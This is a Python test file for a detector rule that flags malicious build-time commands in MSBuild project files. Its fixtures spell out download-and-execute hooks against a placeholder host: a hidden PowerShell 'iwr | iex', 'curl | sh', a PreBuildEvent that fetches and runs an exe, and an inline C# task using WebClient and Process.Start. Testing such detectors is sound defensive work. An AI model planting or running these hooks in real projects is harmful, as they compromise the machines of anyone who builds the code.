from lazaretto.detect.engine import Engine
from lazaretto.detect.rules.repository.build_project_command import RULE
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def told(text: str, path: str = "src/App.csproj") -> list[tuple[int, str, str, str]]:
    result = Engine([RULE], VIEWS).examine(Blob(path, text.encode()))
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity.name, f.confidence.name, f.phase.value) for f in result.findings]


EXEC = '<Project>\n <Target Name="A" BeforeTargets="Build">\n  <Exec Command="{}" />\n </Target>\n</Project>\n'


def test_commands() -> None:
    hidden = "powershell -w hidden -c &quot;iwr https://files.example.test/a.ps1 | iex&quot;"
    assert told(EXEC.format(hidden)) == [(3, "HIGH", "HIGH", "build")]
    assert told(EXEC.format("curl -s https://files.example.test/a | sh")) == [(3, "HIGH", "MEDIUM", "build")]
    assert told(EXEC.format(hidden), "tests/data/App.csproj")[0][1] == "LOW"


def test_an_event() -> None:
    text = (
        "<Project><PropertyGroup>\n<PreBuildEvent>curl -o %TEMP%\\a.exe https://files.example.test/a.exe &amp;&amp; "
        "%TEMP%\\a.exe</PreBuildEvent></PropertyGroup></Project>\n"
    )
    assert told(text, "src/App.vcxproj") == [(2, "HIGH", "HIGH", "build")]


def test_an_inline_task() -> None:
    text = (
        '<Project><UsingTask TaskName="X" TaskFactory="CodeTaskFactory"><Task>\n<Code Type="Class" Language="cs"><![CDATA['
        'new WebClient().DownloadFile("https://files.example.test/a", "a"); Process.Start("a");]]></Code></Task></UsingTask></Project>'
    )
    assert told(text, "Directory.Build.targets") == [(2, "HIGH", "HIGH", "build")]
    assert told(text.replace('Process.Start("a");', "")) == []


def test_near_misses() -> None:
    assert told(EXEC.format("npm ci &amp;&amp; npm run build")) == []
    assert told(EXEC.format("dotnet tool restore")) == []
    assert told(EXEC.format("curl -s https://files.example.test/a | sh"), "notes.xml") == []
